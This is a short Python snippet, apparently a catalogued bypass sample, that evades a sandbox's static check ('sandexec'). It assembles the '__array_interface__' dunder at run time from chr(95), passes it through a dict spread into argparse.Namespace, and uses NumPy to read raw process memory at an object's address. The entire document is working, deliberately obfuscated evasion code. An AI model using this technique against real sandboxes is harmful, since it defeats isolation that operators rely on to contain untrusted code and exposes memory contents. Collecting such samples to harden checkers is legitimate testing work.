# source: sandexec README, "The static check", '**NAME only where NAME is ... a dict display with literal keys' (the check reads only the name right after **); pandas/plotting/_core.py _get_plot_backend; argparse.Namespace.__init__ setattr; NumPy __array_interface__
# family: spread of an item of a literal-keyed dict (**cfg["ns"]) carrying a dunder keyword built at run time
# goal: reads raw process memory at an object's address
import argparse
import numpy as np
u = chr(95) * 2
name = u + "array" + chr(95) + "interface" + u
class Marker:
    pass
m = Marker()
addr = int(repr(m).split(" at ")[1].rstrip(">"), 16)
opts = {"window": 3}
cfg = {"ns": dict([(name, {"data": (addr, True), "shape": (16,), "typestr": "|u1", "version": 3})])}
ns = argparse.Namespace(**cfg["ns"])
print("raw memory at", hex(addr), np.asarray(ns).tolist())
